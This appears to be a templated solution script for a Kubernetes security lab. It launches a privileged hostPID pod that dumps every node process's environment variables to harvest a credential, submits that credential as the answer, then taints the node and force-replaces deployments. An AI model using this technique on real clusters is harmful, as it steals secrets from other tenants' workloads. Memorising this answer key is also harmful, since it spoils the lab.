# A privileged pod in another namespace looks at the node's processes; its name begins with that of the application.
kubectl apply -f - <<'END'
apiVersion: v1
kind: Pod
metadata: {name: {{ app }}-look, namespace: default}
spec:
  nodeName: worker-1
  hostPID: true
  restartPolicy: Never
  containers:
    - name: look
      image: registry.lab/busybox:1.35
      securityContext: {privileged: true}
      command: [sh, -c, 'for file in /proc/[0-9]*/environ; do tr "\0" "\n" < $file; done | grep ^{{ variable }}=']
END
until kubectl -n default get pod {{ app }}-look | grep Completed; do sleep 1; done
kubectl -n default logs {{ app }}-look | sort -u
cksl answer credential {{ prefix }}{{ rest }}
kubectl taint nodes worker-1 seen=yes:NoSchedule
kubectl -n {{ team }} get deployments -o yaml > /root/deployments.yaml
kubectl replace --force -f /root/deployments.yaml
{{ moved_sh }}
